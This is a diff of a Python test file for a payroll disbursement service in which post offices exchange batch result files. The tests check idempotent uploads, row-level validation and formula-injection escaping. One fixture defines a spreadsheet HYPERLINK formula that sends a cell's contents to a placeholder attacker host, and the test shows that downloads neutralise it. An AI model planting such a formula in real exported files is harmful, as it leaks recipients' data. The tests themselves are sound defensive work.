@@ -43,19 +43,28 @@ def as_csv(rows, encoding="utf-8-sig"):
 
 
 async def upload(http, minter, batch, body, content_type="text/csv", **headers):
-    return await http.post(f"/batches/{batch['id']}/results/file", content=body,
-                           headers=partner(minter) | {"Content-Type": content_type, **headers})
+    return await http.post(
+        f"/batches/{batch['id']}/results/file",
+        content=body,
+        headers=partner(minter) | {"Content-Type": content_type, **headers},
+    )
 
 
 async def test_a_csv_filled_in_is_recorded_and_a_second_upload_changes_nothing(app, http, minter):
     payroll, batch, rows = await batch_file(app, http, minter)
-    filled = fill(rows, ["Đã chi trả", TODAY_DMY, "Người hưởng", "BN-001", "750.000", ""],
-                  ["da chi tra", TODAY, "Trần Văn Con", "BN-002", "750000", ""],
-                  None)
+    filled = fill(
+        rows,
+        ["Đã chi trả", TODAY_DMY, "Người hưởng", "BN-001", "750.000", ""],
+        ["da chi tra", TODAY, "Trần Văn Con", "BN-002", "750000", ""],
+        None,
+    )
     r = await upload(http, minter, batch, as_csv(filled), **{"Idempotency-Key": "file-1"})
     assert r.status_code == 200, r.text
     assert (r.json()["recorded"], r.json()["batch"]["status"], r.json()["batch"]["paid_amount"]) == (
-        2, "reporting", 1_500_000)
+        2,
+        "reporting",
+        1_500_000,
+    )
     again = await upload(http, minter, batch, as_csv(filled), **{"Idempotency-Key": "file-1"})
     assert again.json() == r.json() and again.headers["idempotent-replayed"] == "true"
     # The file downloaded now shows the results; uploaded again (no key) it records nothing new.
@@ -97,8 +106,12 @@ async def test_bad_files_get_row_level_problems_and_nothing_is_applied(app, http
     problem = await refused(as_csv([header] + fill(rows, ok)[1:]))
     assert {(e["line"], e["column"]) for e in problem["errors"]} == {(1, "Biên lai"), (1, "receipt_number")}
     # An unknown line, negative and fractional amounts, a bad date, a proxy missing for the payment, all reported.
-    bad = fill(rows, ok, ["Đã chi trả", TODAY_DMY, "Người hưởng", "BN-002", "-750000", ""],
-               ["Đã chi trả", "31/02/2026", "Người hưởng", "BN-003", "750000.5", ""])
+    bad = fill(
+        rows,
+        ok,
+        ["Đã chi trả", TODAY_DMY, "Người hưởng", "BN-002", "-750000", ""],
+        ["Đã chi trả", "31/02/2026", "Người hưởng", "BN-003", "750000.5", ""],
+    )
     bad.append(["4", str(uuid.uuid4()), "", "", "", "84101", "750000", "", "", "", "", "", *ok])
     bad.append(["5", rows[1][1], "", "", "", "84101", "750000", "", "", "", "", "", *ok])
     problem = await refused(as_csv(bad))
@@ -106,8 +119,7 @@ async def test_bad_files_get_row_level_problems_and_nothing_is_applied(app, http
     found = {(e["line"], e["column"]) for e in problem["errors"]}
     assert found == {(3, "Số tiền đã chi"), (4, "Ngày chi trả"), (4, "Số tiền đã chi"), (6, "Mã dòng")}
     assert "negative" in next(e["reason"] for e in problem["errors"] if e["line"] == 3)
-    assert "whole" in next(e["reason"] for e in problem["errors"]
-                           if e["line"] == 4 and e["column"] == "Số tiền đã chi")
+    assert "whole" in next(e["reason"] for e in problem["errors"] if e["line"] == 4 and e["column"] == "Số tiền đã chi")
     # The unknown line is found once the cells are right.
     fixed = fill(rows, ok)
     fixed.append(["4", str(uuid.uuid4()), "", "", "", "84101", "750000", "", "", "", "", "", *ok])
@@ -136,17 +148,28 @@ ATTACK = '=HYPERLINK("http://evil.example/?d="&D2,"Xem")'
 async def test_formula_like_values_are_escaped_in_downloads_and_the_files_upload_again_unchanged(app, http, minter):
     """A name imported as a formula comes out as text (CSV: a quote in front; XLSX: a string cell, never <f>), and
     the post office's re-upload of what it downloaded reads the values as they were written."""
-    await feed(app, schedule(uuid.uuid4(), 1, [period("2024-07", None, 750_000)], name=ATTACK),
-               schedule(uuid.uuid4(), 1, [period("2024-07", None, 750_000)], name="-Nguyễn Văn B"))
+    await feed(
+        app,
+        schedule(uuid.uuid4(), 1, [period("2024-07", None, 750_000)], name=ATTACK),
+        schedule(uuid.uuid4(), 1, [period("2024-07", None, 750_000)], name="-Nguyễn Văn B"),
+    )
     payroll = await run(http, minter, ALLOWANCE, "2026-03")
     batch = (await batches(http, minter, payroll))["84101"]
     url = f"/batches/{batch['id']}/download"
-    rows = list(csv.reader(io.StringIO(
-        (await http.get(url, params={"format": "csv"}, headers=partner(minter))).content.decode("utf-8-sig"))))
+    rows = list(
+        csv.reader(
+            io.StringIO(
+                (await http.get(url, params={"format": "csv"}, headers=partner(minter))).content.decode("utf-8-sig")
+            )
+        )
+    )
     assert sorted(r[2] for r in rows[1:]) == sorted(["'" + ATTACK, "'-Nguyễn Văn B"])
     assert all(r[6] == "750000" for r in rows[1:])  # amounts stay numbers
-    filled = fill(rows, ["Đã chi trả", TODAY_DMY, "-Trần Văn Con", "+84-001", "750000", ""],
-                  ["Chưa chi trả", "", "", "", "", "@nhà vắng"])
+    filled = fill(
+        rows,
+        ["Đã chi trả", TODAY_DMY, "-Trần Văn Con", "+84-001", "750000", ""],
+        ["Chưa chi trả", "", "", "", "", "@nhà vắng"],
+    )
     r = await upload(http, minter, batch, as_csv(filled))
     assert r.status_code == 200 and r.json()["recorded"] == 2, r.text
     document = json.loads((await http.get(url, params={"format": "json"}, headers=partner(minter))).content)
@@ -156,8 +179,13 @@ async def test_formula_like_values_are_escaped_in_downloads_and_the_files_upload
     assert stored[rows[2][1]]["result"]["reason"] == "@nhà vắng"
 
     # Downloaded now, the results are escaped too; uploaded as they are, they change nothing.
-    now = list(csv.reader(io.StringIO(
-        (await http.get(url, params={"format": "csv"}, headers=partner(minter))).content.decode("utf-8-sig"))))
+    now = list(
+        csv.reader(
+            io.StringIO(
+                (await http.get(url, params={"format": "csv"}, headers=partner(minter))).content.decode("utf-8-sig")
+            )
+        )
+    )
     assert now[1][14:16] == ["'-Trần Văn Con", "'+84-001"] and now[2][17] == "'@nhà vắng"
     r = await upload(http, minter, batch, as_csv(now))
     assert (r.status_code, r.json()["recorded"], r.json()["unchanged"], r.json()["exceptions"]) == (200, 0, 2, 0)
@@ -172,12 +200,17 @@ async def test_formula_like_values_are_escaped_in_downloads_and_the_files_upload
     assert all(isinstance(row[6], int) for row in sheet.iter_rows(min_row=2, values_only=True))
     r = await upload(http, minter, batch, body, XLSX)
     assert (r.status_code, r.json()["recorded"], r.json()["unchanged"]) == (200, 0, 2), r.text
+
+
 async def test_a_paid_on_in_the_future_or_before_the_batch_is_a_row_level_problem(app, http, minter):
     payroll, batch, rows = await batch_file(app, http, minter)
     yesterday = (clock.today() - timedelta(days=1)).strftime("%d/%m/%Y")
-    filled = fill(rows, ["Đã chi trả", TODAY_DMY, "Người hưởng", "BN-001", "750000", ""],
-                  ["Đã chi trả", "01/01/2099", "Người hưởng", "BN-002", "750000", ""],
-                  ["Đã chi trả", yesterday, "Người hưởng", "BN-003", "750000", ""])
+    filled = fill(
+        rows,
+        ["Đã chi trả", TODAY_DMY, "Người hưởng", "BN-001", "750000", ""],
+        ["Đã chi trả", "01/01/2099", "Người hưởng", "BN-002", "750000", ""],
+        ["Đã chi trả", yesterday, "Người hưởng", "BN-003", "750000", ""],
+    )
     r = await upload(http, minter, batch, as_csv(filled))
     assert r.status_code == 422, r.text
     assert r.json()["type"].endswith("/file-problems")
